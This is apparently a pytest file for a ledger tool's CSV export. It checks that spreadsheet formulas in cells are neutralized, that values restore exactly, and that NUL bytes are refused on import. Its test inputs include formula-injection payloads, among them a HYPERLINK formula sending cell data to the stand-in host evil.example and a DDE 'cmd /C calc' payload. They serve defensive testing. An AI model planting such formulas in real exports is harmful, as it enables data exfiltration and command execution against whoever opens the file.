"""CSV exports are safe to open in a spreadsheet, import back unchanged, and NUL bytes are refused."""

from __future__ import annotations

import csv
import io

import pytest

from bipacheck.csv_cells import neutralize, restore
from bipacheck.ledger import ImportRejected, Ledger

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2", "-2+3", "@SUM(A1:A2)", "'=already quoted", "''+twice", "\uff1dfullwidth",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize("value", HOSTILE + ["\tTab", "\rCR", "plain", "", "'quoted", "a=b", "3-4"])
def test_neutralized_cells_never_start_a_formula_and_restore_exactly(value):
    cell = neutralize(value)
    assert not cell.startswith(FORMULA_START)
    assert restore(cell) == value
    if not value.startswith(FORMULA_START) and not value.startswith("'"):
        assert cell == value  # ordinary text is left alone


def test_a_ledger_of_formulas_exports_inert_csv_that_imports_back_the_same(tmp_path):
    with Ledger.create(tmp_path / "l.db") as ledger:
        for number, value in enumerate(HOSTILE):
            subject = f"{value[:1]}s{number}"  # ids may start with a formula character too
            ledger.add_subject(subject, display_name=value, jurisdictions="US-IL")
            ledger.link(subject, photo_path=f"{value[:1]}photo{number}.jpg")
        exported = ledger.export_dir(tmp_path / "out", "csv")
        for path in exported:
            for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")):
                for cell in row:
                    assert not cell.startswith(FORMULA_START), (path.name, cell)
        events = io.StringIO()
        ledger.export("events", events, "csv")
        for row in csv.reader(io.StringIO(events.getvalue(), newline="")):
            assert not any(cell.startswith(FORMULA_START) for cell in row)
        with Ledger.create(tmp_path / "copy.db") as copy:
            for path in exported:
                copy.import_file(path)
            for kind in ("subjects", "links"):
                assert list(copy.db.query(f"SELECT * FROM {kind} ORDER BY 1")) == \
                    list(ledger.db.query(f"SELECT * FROM {kind} ORDER BY 1"))
            assert copy.subject("=s0").display_name == HOSTILE[0]


@pytest.mark.parametrize("suffix, text", [
    (".csv", "subject_id,display_name\nok-1,Ann\nnul-2,Bo\x00b\nok-3,Cy\n"),
    (".jsonl", '{"subject_id": "ok-1"}\n{"subject_id": "nul-2", "display_name": "Bo\\u0000b"}\n'),
    (".csv", "subject_id,photo_path\nok-1,a.jpg\nok-1,b\x00.jpg\n"),
])
def test_nul_bytes_are_refused_on_their_line(tmp_path, suffix, text):
    path = tmp_path / f"import{suffix}"
    path.write_text(text, encoding="utf-8")
    with Ledger.create(tmp_path / "l.db") as ledger:
        ledger.add_subject("ok-1")
        with pytest.raises(ImportRejected) as caught:
            ledger.import_file(path)
        ((line, reason),) = caught.value.problems
        assert line == (3 if suffix == ".csv" else 2) and "NUL" in reason
